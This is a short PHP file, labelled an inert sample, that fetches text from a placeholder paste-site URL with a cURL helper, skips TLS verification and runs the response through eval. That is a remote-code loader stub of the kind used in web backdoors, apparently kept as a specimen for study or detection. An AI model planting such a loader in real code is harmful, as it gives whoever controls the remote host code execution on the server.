<?php
// Inert sample: a two-line stub fetches its code from a paste site's "raw" address (no file
// extension) through a small cURL helper and evaluates the answer as a script.
function pull_raw($address)
{
    $c = curl_init();
    curl_setopt($c, CURLOPT_URL, $address);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);
    $out = curl_exec($c);
    curl_close($c);
    return $out;
}

$txt = pull_raw("https://paste.example.invalid/k3x9q/raw");
echo eval("?>" . (($txt)));
